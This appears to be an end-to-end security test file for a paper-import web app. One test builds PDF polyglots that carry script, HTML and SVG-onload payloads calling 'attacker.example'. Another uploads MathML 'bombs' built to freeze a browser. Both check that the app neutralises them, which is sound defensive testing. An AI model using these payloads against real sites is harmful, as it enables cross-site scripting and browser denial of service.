import type { ImportStatus } from '@tessera/contract'
import { expect, test } from 'vitest'
import { pdfWith } from '../server/src/testing/fixture-papers.ts'
import { appStarted, type Reader, useReaders } from './readers.ts'

const newReader = useReaders()

/** Brings a file as the reader would. @returns the id of its paper, once it has been read */
async function bring({ page }: Reader, name: string, buffer: Buffer): Promise<string> {
  const file = { name, mimeType: 'application/octet-stream', buffer }
  const answer = await page.request.post('/api/papers/import', { multipart: { file } })
  const { jobId, paperId } = (await answer.json()) as ImportStatus
  const state = async () => {
    const now = await page.request.get(`/api/papers/import/${jobId}`)
    return ((await now.json()) as ImportStatus).step
  }
  await expect.poll(state, { timeout: 60_000, interval: 200 }).toBe('done')
  return paperId
}

test('a PDF that is also a script, a page or a picture runs as none of them (T03)', {
  retry: 0,
}, async () => {
  const reader = await newReader()
  const { page, context, expectComplaint } = reader
  await page.goto('/about')
  const seen: string[] = []
  page.on('dialog', (dialog) => {
    seen.push(dialog.message())
    void dialog.dismiss()
  })
  await context.route('http://attacker.example/**', (route) => {
    seen.push(route.request().url())
    return route.abort()
  })
  const run = 'alert(1);fetch(`http://attacker.example/`)'
  const pdf = pdfWith(['A Note on Two Faces', 'This file is a PDF and would be more.'])
  const faces = [
    `${run}//`,
    `<!doctype html><script>${run}</script>`,
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  ]
  const files: string[] = []
  for (const [at, face] of faces.entries())
    files.push(
      await bring(reader, `face-${at}.pdf`, Buffer.concat([Buffer.from(`${face}\n`), pdf])),
    )
  expectComplaint(/MIME type|nosniff|ERR_|Content Security Policy|frame|sandbox/i)
  const outcomes = await page.evaluate(
    async (addresses) => {
      const ended = (element: HTMLElement) =>
        new Promise<string>((done) => {
          element.onload = () => done(`${element.localName} loaded`)
          element.onerror = () => done(`${element.localName} refused`)
          document.body.append(element)
        })
      const tries = addresses.flatMap((src) => [
        ended(Object.assign(document.createElement('script'), { src })),
        ended(Object.assign(document.createElement('img'), { src })),
      ])
      for (const src of addresses)
        document.body.append(Object.assign(document.createElement('iframe'), { src }))
      return [...new Set(await Promise.all(tries))]
    },
    files.map((id) => `/api/papers/${id}/pdf`),
  )
  expect(outcomes.toSorted()).toEqual(['img refused', 'script refused'])
  // As an address of its own it is a file to keep, or the viewer's: never a page of this site.
  for (const id of files) {
    const alone = await context.newPage()
    await alone.goto(`/api/papers/${id}/pdf`).catch((error: Error) => {
      if (!error.message.includes('Download is starting')) throw error
    })
    const elements = alone.locator('svg, script')
    expect(await elements.count().catch(() => 0)).toBe(0)
  }
  expect(seen).toEqual([])
})

test('formulas made to stop a browser are plain characters, and the page answers (T12)', {
  retry: 0,
}, async () => {
  const reader = await newReader()
  const { page } = reader
  const nested = (count: number, open: string, close: string) =>
    `${open.repeat(count)}x${close.repeat(count)}`
  const bombs = [
    `<math>${nested(150, '<mfrac><mn>1</mn><mrow>', '</mrow></mfrac>')}</math>`,
    `<math><mrow>${'<mi>x</mi>'.repeat(20_000)}</mrow></math>`,
    `<math alttext="${'x^2+'.repeat(50_000)}"><mi>x</mi></math>`,
    '<math alttext="\\rule{1e9em}{1e9em}"><mspace width="1000000000em"/></math>',
    '<math><mfrac><mi>a</mi><mi>b</mi></mfrac></math>, '.repeat(550),
  ]
  const words = 'The pressure of the gas is measured in every vessel after an hour.'
  const html = `<!doctype html><html lang="en"><head><title>On Heavy Formulas</title></head><body><article><h1>On Heavy Formulas</h1><h2>1 Method</h2>${bombs.map((bomb) => `<p>${words} It is ${bomb}.</p>`).join('\n')}</article></body></html>`
  const id = await bring(reader, 'heavy.html', Buffer.from(html))
  await page.goto(`/paper/${id}`)
  await appStarted(page)
  await page.getByRole('heading', { level: 1, name: 'On Heavy Formulas' }).waitFor()
  await page.locator('.text .formula-plain').first().waitFor({ state: 'attached' })
  const { formulas, deepest, width } = await page.evaluate(() => {
    const all = [...document.querySelectorAll('.text math')]
    const depth = (element: Element): number =>
      1 + Math.max(0, ...[...element.children].map((child) => depth(child)))
    return {
      formulas: all.length,
      deepest: Math.max(...all.map(depth)),
      width: document.documentElement.scrollWidth - document.documentElement.clientWidth,
    }
  })
  expect(formulas).toBeGreaterThan(0)
  expect(formulas).toBeLessThanOrEqual(500)
  expect(deepest).toBeLessThan(100)
  expect(width).toBe(0)
})
